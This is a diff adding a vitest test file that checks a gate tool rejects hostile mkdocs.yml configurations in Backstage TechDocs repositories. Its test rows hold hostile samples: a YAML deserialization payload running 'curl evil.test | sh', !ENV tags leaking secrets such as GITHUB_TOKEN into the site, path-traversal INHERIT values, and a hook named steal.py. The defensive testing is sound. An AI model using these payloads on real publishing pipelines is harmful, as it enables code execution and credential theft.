@@ -1,0 +1,44 @@
+import { describe, expect, it } from 'vitest';
+import { tempRepo } from '../helpers/tempRepo.ts';
+import { runBin } from './runBin.ts';
+
+const component = 'apiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata:\n  name: docs-site\n  annotations:\n    backstage.io/techdocs-ref: dir:./handbook\nspec:\n  type: service\n  lifecycle: production\n  owner: group:team-a\n---\napiVersion: backstage.io/v1alpha1\nkind: Group\nmetadata:\n  name: team-a\nspec:\n  type: team\n  children: []\n';
+
+// One hostile mkdocs.yml per row; each must fail the gate with the rule on the line that does the harm.
+const ROWS: [string, string, string[]][] = [
+  ['!ENV reads a secret into the site', "site_name: Docs\ncopyright: !ENV AZURE_STORAGE_CONNECTION_STRING\n", ['mkdocs-unsafe-tag@2']],
+  ['!ENV with a fallback list', "site_name: Docs\nextra:\n  token: !ENV [GITHUB_TOKEN, none]\n", ['mkdocs-unsafe-tag@3']],
+  ['!!python/object/apply runs code', "site_name: Docs\nextra:\n  x: !!python/object/apply:os.system ['curl evil.test | sh']\n", ['mkdocs-unsafe-tag@3']],
+  ['!!python/name imports anything', "site_name: Docs\nextra:\n  x: !!python/name:os.system\n", ['mkdocs-unsafe-tag@3']],
+  ['hooks run Python files', "site_name: Docs\nhooks:\n  - hooks/steal.py\n", ['mkdocs-hooks@2']],
+  ['INHERIT from outside the repo', "INHERIT: ../../../../etc/mkdocs.yml\nsite_name: Docs\n", ['mkdocs-inherit-outside@1']],
+  ['INHERIT from a file the site does not own', "INHERIT: ../../gitops.config.yaml\nsite_name: Docs\n", ['mkdocs-inherit-outside@1']],
+  ['pymdownx.snippets pastes host files into pages', "site_name: Docs\nmarkdown_extensions:\n  - toc\n  - pymdownx.snippets:\n      check_paths: true\n", ['mkdocs-unsafe-extension@4']],
+  ['a plugin outside the policy', "site_name: Docs\nplugins:\n  - techdocs-core\n  - macros\n", ['mkdocs-plugin-not-allowed@4']],
+];
+
+describe('mkdocs.yml cannot reach the publishing job through the gate', () => {
+  it.each(ROWS)('%s', async (_, mkdocs, expected) => {
+    const root = await tempRepo({
+      'catalog-info.yaml': component,
+      'handbook/mkdocs.yml': mkdocs,
+      'handbook/docs/index.md': '# Docs\n',
+    });
+    const result = await runBin(['check', '--format', 'json'], root);
+    const report = JSON.parse(result.stdout) as { diagnostics: { ruleId: string; file: string; range: { start: { line: number } } }[] };
+    const security = report.diagnostics.filter(d => d.file === 'handbook/mkdocs.yml' && d.ruleId !== 'mkdocs-dropped-key').map(d => `${d.ruleId}@${d.range.start.line}`);
+    expect(security).toEqual(expected);
+    expect(result.status).toBe(1);
+  });
+
+  it('!relative (MkDocs\' own path tag) and the emoji tags techdocs-node allows pass', async () => {
+    const root = await tempRepo({
+      'catalog-info.yaml': component,
+      'handbook/mkdocs.yml': "site_name: Docs\nmarkdown_extensions:\n  - pymdownx.emoji:\n      emoji_generator: !!python/name:materialx.emoji.twemoji\nextra:\n  docs: !relative $docs_dir\n",
+      'handbook/docs/index.md': '# Docs\n',
+    });
+    const result = await runBin(['check', '--format', 'json'], root);
+    const report = JSON.parse(result.stdout) as { diagnostics: { ruleId: string }[] };
+    expect(report.diagnostics.map(d => d.ruleId).filter(id => id.startsWith('mkdocs-') && id !== 'mkdocs-dropped-key')).toEqual([]);
+  });
+});
